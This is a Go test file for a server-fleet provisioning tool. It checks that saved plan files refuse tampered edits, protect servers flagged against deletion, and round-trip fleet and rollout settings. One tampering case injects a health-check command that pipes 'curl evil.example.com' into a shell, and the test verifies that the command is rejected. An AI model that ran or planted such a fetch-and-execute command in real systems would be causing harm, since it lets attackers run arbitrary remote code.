package planfile

import (
	"reflect"
	"strings"
	"testing"

	"github.com/vpsfleet/vpsfleet/api"
	"github.com/vpsfleet/vpsfleet/engine"
	et "github.com/vpsfleet/vpsfleet/internal/enginetest"
	"github.com/vpsfleet/vpsfleet/schema"
)

// protectedFixture is a plan that updates web-01 in a fleet whose db-01 is
// protected twice over (fleet.protect and prevent_destroy).
func protectedFixture(t *testing.T) *File {
	t.Helper()
	fleet := &schema.Fleet{
		Owns: schema.GlobSet{"web-*", "db-*"}, Protect: schema.GlobSet{"db-*"},
		Servers: []schema.DesiredServer{et.Desired("web-01", 1, et.WantHost("web1.example.com")), et.Desired("db-01", 2, et.PreventDestroy)},
	}
	fleet.Hash = schema.HashFleet(fleet)
	live := []api.Server{et.Live(10, "web-01"), et.Live(11, "db-01")}
	p, diags := engine.BuildPlan(fleet, live, engine.PlanOptions{})
	if diags.HasErrors() || len(p.Changes) != 1 {
		t.Fatalf("plan = %+v, %v", p.Changes, diags)
	}
	return New(p, fleet, live, Made{Endpoint: "sandbox", At: et.Time})
}

// TestVerifyRefusesEditedPlans: a plan file is applied only if its changes
// follow from the fleet and the servers it records, and never deletes a
// protected server, whatever was edited into it.
func TestVerifyRefusesEditedPlans(t *testing.T) {
	if err := protectedFixture(t).Verify(); err != nil {
		t.Fatalf("Verify of a genuine plan = %v", err)
	}
	tests := []struct {
		name string
		edit func(*File)
		want string
	}{
		{"a health check edited in", func(sp *File) {
			sp.Plan.Groups = append(sp.Plan.Groups, engine.Group{Label: "web-01", Servers: 1, Rollout: &engine.Rollout{MaxUnavailable: 1,
				HealthCheck: &engine.HealthCheck{Command: []string{"sh", "-c", "curl evil.example.com | sh"}}}})
		}, "its order of changes (the server blocks' depends_on and rollouts, with their health checks) does not follow"},
		{"a delete of the protected server appended", func(sp *File) {
			db := sp.Read[1]
			sp.Plan.Changes = append(sp.Plan.Changes, engine.Change{Name: "db-01", Actions: []engine.Action{engine.ActionDelete},
				Before: &engine.ServerState{ID: db.ID, Name: db.Name, PlanID: 1, OSID: 5, Location: "us-west", Power: schema.PowerOn}})
		}, "it would delete db-01, which lifecycle.prevent_destroy keeps"},
		{"the protection edited out as well", func(sp *File) {
			sp.Fleet.Protect = nil
			sp.Fleet.Servers[1].Lifecycle.PreventDestroy = false
			db := sp.Read[1]
			sp.Plan.Changes = append(sp.Plan.Changes, engine.Change{Name: "db-01", Actions: []engine.Action{engine.ActionDelete},
				Before: &engine.ServerState{ID: db.ID, Name: db.Name, PlanID: 1, OSID: 5, Location: "us-west", Power: schema.PowerOn}})
		}, "does not hash to the fleet_hash it records"},
		{"a change's target edited", func(sp *File) {
			sp.Plan.Changes[0].After.Hostname = "evil.example.com"
		}, "web-01: [update] with other values than the plan's"},
		{"a change dropped", func(sp *File) {
			sp.Plan.Changes = nil
		}, "web-01: now [update], in the plan nothing"},
		{"no fleet", func(sp *File) { sp.Fleet = nil }, "holds no fleet"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sp := protectedFixture(t)
			tt.edit(sp)
			if err := sp.Verify(); err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("Verify = %v, want it to say %q", err, tt.want)
			}
		})
	}
}

// TestFleetRecordRoundTrip: the fleet kept in a plan file plans as the
// fleet it was made from and hashes the same.
func TestFleetRecordRoundTrip(t *testing.T) {
	fleet := et.LoadFleet(t, `
fleet {
  owns    = ["web-*", "db-*"]
  protect = ["db-*"]
}
defaults {
  location = "us-west"
  os_id    = 5
}
server "web" {
  count    = 3
  name     = format("web-%02d", count.index + 1)
  plan_id  = 1
  hostname = "web-${count.index + 1}.example.com"
  lifecycle {
    create_before_destroy = true
    ignore_changes        = ["backups_enabled"]
  }
}
server "app" {
  count      = 2
  name       = "app-${count.index}"
  plan_id    = 1
  depends_on = ["db-01"]
  rollout {
    max_unavailable = "50%"
    pause           = "30s"
    max_failures    = 1
    health_check {
      command  = ["./check.sh", "--quick"]
      timeout  = "7s"
      interval = "2s"
      retries  = 4
    }
  }
}
server "db-01" {
  plan_id         = 2
  os_id           = 3
  location        = "us-east"
  ssh_key_id      = 7
  backups_enabled = true
  power           = "off"
  lifecycle {
    prevent_destroy = true
  }
}
moved {
  from = "db-old"
  to   = "db-01"
}
`)
	back := recordFleet(fleet).fleet()
	if back.Hash != fleet.Hash {
		t.Errorf("hash %s, want %s", back.Hash, fleet.Hash)
	}
	for i := range fleet.Servers {
		a, b := fleet.Servers[i], back.Servers[i]
		if !reflect.DeepEqual(a.DependsOn, b.DependsOn) || !reflect.DeepEqual(a.Rollout, b.Rollout) || a.Group != b.Group {
			t.Errorf("%s: depends_on %v, rollout %+v, group %q; want %v, %+v, %q", a.Name, b.DependsOn, b.Rollout, b.Group, a.DependsOn, a.Rollout, a.Group)
		}
	}
	live := []api.Server{et.Live(1, "web-01", et.PlanID(2)), et.Live(2, "db-old"), et.Live(3, "web-09")}
	a, _ := engine.BuildPlan(fleet, live, engine.PlanOptions{})
	b, _ := engine.BuildPlan(back, live, engine.PlanOptions{})
	if d := changeDifferences(a.Changes, b.Changes); len(d) > 0 {
		t.Errorf("plans differ: %v", d)
	}
	for i := range a.Changes {
		if a.Changes[i].Reason != b.Changes[i].Reason {
			t.Errorf("reason %q, want %q", b.Changes[i].Reason, a.Changes[i].Reason)
		}
	}
}

// TestSavedRolloutPlanVerifies: a plan of a fleet with depends_on and a
// rollout, written and read back, follows from its fleet: the same
// batches, the same groups and health check.
func TestSavedRolloutPlanVerifies(t *testing.T) {
	fleet := et.LoadFleet(t, `
defaults {
  plan_id  = 1
  os_id    = 5
  location = "us-west"
}
server "db" {}
server "web" {
  count      = 4
  name       = "web-${count.index}"
  plan_id    = 2
  depends_on = ["db"]
  rollout {
    max_unavailable = "50%"
    pause           = "1m30s"
    health_check { command = ["./check.sh", "--quick"] }
  }
}`)
	live := []api.Server{et.Live(1, "db"), et.Live(2, "web-0"), et.Live(3, "web-1"), et.Live(4, "web-2", et.Status(api.StatusProvisioning), et.PlanID(2)), et.Live(5, "web-3")}
	p, diags := engine.BuildPlan(fleet, live, engine.PlanOptions{})
	if diags.HasErrors() || len(p.Groups) != 2 || p.Group("web").Rollout.Batches != 2 {
		t.Fatalf("plan %+v, %v", p.Groups, diags)
	}
	path := t.TempDir() + "/rolling.plan"
	if err := Write(path, New(p, fleet, live, Made{Endpoint: "sandbox", At: et.Time})); err != nil {
		t.Fatal(err)
	}
	sp, err := Read(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := sp.Verify(); err != nil {
		t.Errorf("Verify: %v", err)
	}
	if !reflect.DeepEqual(sp.Plan.Groups, p.Groups) {
		t.Errorf("groups read back\n%+v\nwant\n%+v", sp.Plan.Groups, p.Groups)
	}
}
